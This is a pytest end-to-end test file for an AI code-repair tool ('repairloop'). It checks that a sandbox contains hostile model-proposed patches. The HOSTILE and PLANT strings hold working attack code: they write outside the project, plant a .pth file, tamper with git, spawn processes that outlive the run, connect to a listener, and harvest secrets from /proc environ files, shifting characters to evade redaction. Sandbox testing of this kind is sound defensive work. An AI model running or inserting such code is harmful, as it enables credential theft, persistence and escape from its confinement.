"""Hostile candidates, end to end: the scripted model proposes module-level code in the file under
test that attacks the user's repository, the disk, the network, the process table and the secrets.

Run through the real CLI, litellm and the scripted server. With the sandbox every attack must fail
without a trace; with ``sandbox = "none"`` the same attacks reach the host (which shows the checks
can fail) and every report says the run was unconfined.
"""

from __future__ import annotations

import base64
import difflib
import json
import os
import signal
import site
import socket
import subprocess
import sys
import threading
import uuid
from pathlib import Path
from typing import Dict, List, Tuple

import pytest
from conftest import git
from scripted_server import ScriptedServer
from test_e2e_run import RIGHT
from test_safety import dirty_elsewhere, snapshot

pytestmark = pytest.mark.slow

SECRET_KEY = "sk-proj-" + "Q7f3ZkP0aVx9LmN2bR5tY8wC1dE4gH6jK"  # a provider key: the model's own
SECRET_OTHER = "s3cr3t-" + "a9F2kL7qW1zX5cV8bN3mR6tY0uI4oP2e"  # a database password, say

HOSTILE = """
import base64 as _b64, glob as _glob, os as _os, socket as _socket, subprocess as _sp, sys as _sys

_REPORT = []


def _try(name, action):
    try:
        action()
        _REPORT.append(name + ":ok")
    except BaseException as exc:  # noqa: BLE001 - an attacker does not care
        _REPORT.append(name + ":" + type(exc).__name__)


def _write(path, text="pwned"):
    with open(path, "w") as fh:
        fh.write(text)


def _git(*args, cwd=None):
    _sp.run(["git", *args], cwd=cwd, check=True, capture_output=True, timeout=20)


_try("home", lambda: _write(_os.path.expanduser("~/pwned-home")))
_try("vartmp", lambda: _write({vartmp!r}))
_try("outside", lambda: _write({outside!r}))
_try("pth", lambda: _write({pth!r}, "# pwned\\n"))
_try("user_file", lambda: _write({project!r} + "/pwned.txt"))
_try("git_branch", lambda: _git("-C", {project!r}, "branch", "pwned"))
_try("git_stash", lambda: _git("-C", {project!r}, "stash", "push", "-u", "-m", "pwned"))
_try("git_found", lambda: _git("rev-parse", "--git-common-dir"))
_try("git_commit_up", lambda: _git("commit", "-q", "--allow-empty", "-m", "pwned"))
_try("net", lambda: _socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"pwned"))
_try("setsid", lambda: _sp.Popen([_sys.executable, "-c", "import time; time.sleep(120)", {mark!r}],
                                 start_new_session=True))
_try("double_fork", lambda: _sp.run(["/bin/sh", "-c", "(setsid sleep 120 {mark} &) &"], timeout=10))
_found = list(_os.environ.items())
_pids, _pid = [], _os.getppid()
while _pid > 1 and len(_pids) < 6:  # the ancestors first (repairloop itself), then every process
    _pids.append(str(_pid))
    try:
        _pid = int(open("/proc/%d/stat" % _pid).read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        break
for _path in ["/proc/%s/environ" % p for p in _pids] + _glob.glob("/proc/*/environ"):
    try:
        _found += [tuple(e.split("=", 1)) for e in open(_path, "rb").read().decode("latin-1").split("\\0") if "=" in e]
    except OSError:
        pass
_found = list(dict.fromkeys(v for k, v in _found if k.endswith(("_KEY", "PASSWORD", "_TOKEN", "SECRET"))))
_LEAK = " ".join(
    "".join(chr(ord(c) + 1) for c in v) + " " + v[::-1] + " " + _b64.b64encode(v.encode()).decode()
    + " " + v.encode().hex() + " " + v[: len(v) // 2] + " + " + v[len(v) // 2:] for v in _found)
"""  # noqa: E501


def hostile_patch(project: Path, attack: str) -> str:
    """A diff that appends ``attack`` to calc/lists.py and makes last_n raise with the leak."""
    path = project / "calc" / "lists.py"
    old = path.read_text()
    new = old.replace(
        "        return []\n    return items[-n - 1:]",
        '        return []\n    raise RuntimeError("status " + " ".join(_REPORT) + " leak " + '
        "_LEAK)",
    )
    new += attack
    lines = difflib.unified_diff(
        old.splitlines(keepends=True),
        new.splitlines(keepends=True),
        "a/calc/lists.py",
        "b/calc/lists.py",
    )
    return "```diff\n" + "".join(lines) + "```\n"


class Listener:
    """A TCP listener on 127.0.0.1 that records every connection (stops with the test)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        self.sock.close()


def marked_processes(mark: str) -> List[int]:
    """Host pids whose command line holds ``mark``."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if mark.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue
    return found


def shifted(secret: str) -> str:
    """The secret with each character moved one code point on: an encoding no redaction knows."""
    return "".join(chr(ord(c) + 1) for c in secret)


def encodings(secret: str) -> List[str]:
    half = len(secret) // 2
    return [
        secret,
        base64.b64encode(secret.encode()).decode(),
        secret.encode().hex(),
        secret[::-1],
        secret[:half],
        secret[half:],
    ]


def attack_run(make_project, tmp_path: Path, mode: str) -> Tuple[Dict, str, Dict[str, object]]:
    """Run repairloop with a hostile first candidate and the right second one; return
    (the --json document, stderr, what the attacks left: paths, connections, processes,
    requests)."""
    project = make_project("off_by_one")
    dirty_elsewhere(project)
    home = tmp_path / "home"
    home.mkdir()
    mark = f"rl-attack-{uuid.uuid4().hex}"
    targets = {
        "vartmp": Path("/var/tmp") / f"{mark}.txt",
        "outside": tmp_path / "outside.txt",
        "pth": Path(site.getsitepackages()[0]) / f"{mark}.pth",
        "home": home / "pwned-home",
        "user_file": project / "pwned.txt",
    }
    listener = Listener()
    attack = HOSTILE.format(
        vartmp=str(targets["vartmp"]),
        outside=str(targets["outside"]),
        pth=str(targets["pth"]),
        project=str(project),
        port=listener.port,
        mark=mark,
    )
    before = snapshot(project)
    env = {
        **os.environ,
        "HOME": str(home),
        "NO_COLOR": "1",
        "OPENAI_API_KEY": SECRET_KEY,
        "DATABASE_PASSWORD": SECRET_OTHER,
        "REPAIRLOOP_SANDBOX": mode,
        "REPAIRLOOP_CONFIRM_RUNS": "0",
        "REPAIRLOOP_ALLOW_CAPABILITIES": "*",  # they prove the sandbox, not the guards
    }
    try:
        with ScriptedServer([("ok", hostile_patch(project, attack)), ("ok", RIGHT)]) as srv:
            done = subprocess.run(
                [
                    sys.executable,
                    "-m",
                    "repairloop",
                    "run",
                    str(project),
                    "--model",
                    "openai/scripted",
                    "--api-base",
                    srv.base_url,
                    "--no-builtin",
                    "--json",
                ],
                capture_output=True,
                text=True,
                env=env,
                timeout=300,
            )
        left = {name: path.exists() for name, path in targets.items()}
        left.update(
            connections=listener.connections,
            alive=marked_processes(mark),
            requests=json.dumps(srv.requests),
            headers=json.dumps(srv.headers),
            same_repo=snapshot(project) == before,
            branches=git(project, "branch", "--list", "pwned"),
        )
    finally:
        listener.close()
        for pid in marked_processes(mark):
            os.kill(pid, signal.SIGKILL)
        for path in (targets["vartmp"], targets["pth"]):
            path.unlink(missing_ok=True)
    assert done.stdout, done.stderr
    return json.loads(done.stdout), done.stderr, left


def test_hostile_candidate_reaches_nothing_in_the_sandbox(make_project, tmp_path: Path) -> None:
    doc, stderr, left = attack_run(make_project, tmp_path, "bwrap")
    assert doc["outcome"] == "fixed", stderr
    assert (
        doc["sandbox"]["confined"]
        and doc["sandbox"]["backend"] == "bwrap"
        and not doc["sandbox"]["network"]
    )
    # the attack ran (its report reached the model through the failure) and every part of it failed
    requests = str(left["requests"])
    assert "status home:" in requests and "net:" in requests and "git_commit_up:" in requests
    for name in (
        "home",
        "vartmp",
        "outside",
        "pth",
        "user_file",
        "git_branch",
        "git_stash",
        "git_found",
        "git_commit_up",
        "net",
    ):
        assert f"{name}:ok" not in requests, name
    assert left["same_repo"] and not left["branches"]  # files, modes, refs, index, stash, objects
    assert not any(left[name] for name in ("vartmp", "outside", "pth", "home", "user_file"))
    assert left["connections"] == 0
    assert left["alive"] == []  # setsid and double-forked children died with the run
    for secret in (SECRET_KEY, SECRET_OTHER):
        for form in encodings(secret):
            assert form not in requests, form
    for form in encodings(SECRET_OTHER):
        assert form not in str(left["headers"])


def test_the_same_attacks_unconfined_reach_the_host_and_the_run_says_so(
    make_project, tmp_path: Path
) -> None:
    doc, stderr, left = attack_run(make_project, tmp_path, "none")
    assert doc["outcome"] == "fixed", stderr
    box = doc["sandbox"]
    assert {k: box[k] for k in ("confined", "backend", "detail", "network", "program")} == {
        "confined": False,
        "backend": "none",
        "detail": 'sandbox = "none" in the settings',
        "network": True,
        "program": "",
    }
    assert {"OPENAI_API_KEY", "DATABASE_PASSWORD"} <= set(box["env_withheld"]) and box[
        "env_passed"
    ] == []
    assert any(n.startswith("WARNING: candidate code ran UNCONFINED") for n in doc["notes"])
    assert "UNCONFINED" in stderr  # the console said it before the baseline, and in the final panel
    report = subprocess.run(
        [
            sys.executable,
            "-m",
            "repairloop",
            "report",
            "latest",
            "--project",
            doc["run_dir"] + "/../../..",
        ],
        capture_output=True,
        text=True,
        timeout=60,
    )
    # and `repairloop report`
    assert "WARNING: candidate code ran UNCONFINED" in report.stdout, report.stderr
    # the checks above have teeth: unconfined, the same code gets out
    assert left["vartmp"] and left["connections"] >= 1 and left["alive"]
    # filtered out of the test's environment, but read from repairloop's own /proc/<pid>/environ;
    # redaction masks the value in every encoding it knows (base64, reversed, split too), not in one
    # it cannot know (each character shifted by one)
    requests = str(left["requests"])
    assert any(shifted(secret) in requests for secret in (SECRET_KEY, SECRET_OTHER))
    for secret in (SECRET_KEY, SECRET_OTHER):
        for form in encodings(secret):
            assert form not in requests, form
    assert not left["same_repo"]


def test_the_offline_engines_scratch_copies_run_in_the_sandbox(
    make_project, tmp_path: Path
) -> None:
    """Every test session (the baseline, the engine's coverage run and its parallel candidates)
    tries to write outside its copy and to reach a listener; none gets out, and the engine still
    finds the fix."""
    project = make_project("off_by_one")
    listener = Listener()
    mark = Path("/var/tmp") / f"rl-engine-{uuid.uuid4().hex}"
    (project / "conftest.py").write_text(
        "import os, socket\n\n\ndef pytest_sessionstart(session):\n"
        f"    for action in (lambda: open({str(mark)!r}, 'a').write(os.getcwd() + '\\n'),\n"
        f"                   lambda: socket.create_connection(('127.0.0.1', {listener.port}), "
        f"timeout=2)):\n"
        "        try:\n            action()\n        except OSError:\n            pass\n"
    )
    git(project, "add", "conftest.py")
    git(project, "commit", "-q", "-m", "a conftest that tries to get out")
    try:
        done = subprocess.run(
            [
                sys.executable,
                "-m",
                "repairloop",
                "run",
                str(project),
                "--model",
                "builtin",
                "--json",
            ],
            capture_output=True,
            text=True,
            timeout=300,
            env={
                **os.environ,
                "NO_COLOR": "1",
                "REPAIRLOOP_SANDBOX": "bwrap",
                "REPAIRLOOP_CONFIRM_RUNS": "0",
                "REPAIRLOOP_ALLOW_CAPABILITIES": "*",  # they prove the sandbox, not the guards
            },
        )
        doc = json.loads(done.stdout)
        assert doc["outcome"] == "fixed" and doc["sandbox"]["confined"], done.stderr
        assert doc["iterations"][0]["engine"] == "builtin"
        assert not mark.exists() and listener.connections == 0
    finally:
        listener.close()
        mark.unlink(missing_ok=True)


PLANT = """
import os as _os

for _name in ("planted.py", "notes.txt"):
    try:
        with open(_name, "w") as _fh:
            _fh.write("import os  # planted by a test run\\n")
    except OSError:
        pass
try:
    # proof that the planting code ran (unconfined)
    with open(_os.environ["RL_PLANT_MARK"], "w") as _fh:
        _fh.write("ran")
except (OSError, KeyError):
    pass
"""


@pytest.mark.parametrize("mode", ["bwrap", "none"])
def test_files_a_test_run_writes_in_the_workspace_never_reach_the_patch(
    make_project, tmp_path: Path, mode: str
) -> None:
    """A kept candidate whose import writes files next to it: the reported patch is the candidate's
    own edit, so neither the patch, the pull request nor --apply carries them, confined or not."""
    project = make_project("off_by_one")
    right = hostile_patch(project, PLANT).replace(
        '+    raise RuntimeError("status " + " ".join(_REPORT) + " leak " + _LEAK)',
        "+    return items[-n:]",
    )
    with ScriptedServer([("ok", right)]) as srv:
        done = subprocess.run(
            [
                sys.executable,
                "-m",
                "repairloop",
                "run",
                str(project),
                "--model",
                "openai/scripted",
                "--api-base",
                srv.base_url,
                "--no-builtin",
                "--json",
                "--apply",
            ],
            capture_output=True,
            text=True,
            timeout=300,
            env={
                **os.environ,
                "NO_COLOR": "1",
                "REPAIRLOOP_SANDBOX": mode,
                "REPAIRLOOP_CONFIRM_RUNS": "0",
                "REPAIRLOOP_ALLOW_CAPABILITIES": "*",  # they prove the sandbox, not the guards
                "RL_PLANT_MARK": str(tmp_path / "planted-ran"),
            },
        )
    doc = json.loads(done.stdout)
    assert doc["outcome"] == "fixed" and doc["applied"], done.stderr
    planted = [name for name in ("planted.py", "notes.txt") if f"+++ b/{name}" in doc["patch"]]
    assert (
        planted == []
        and not (project / "planted.py").exists()
        and not (project / "notes.txt").exists()
    )
    assert doc["patch"].count("+++ b/") == 1
    # The check has teeth: the planting code did run (unconfined it could say so outside the
    # sandbox).
    assert (tmp_path / "planted-ran").exists() is (mode == "none")
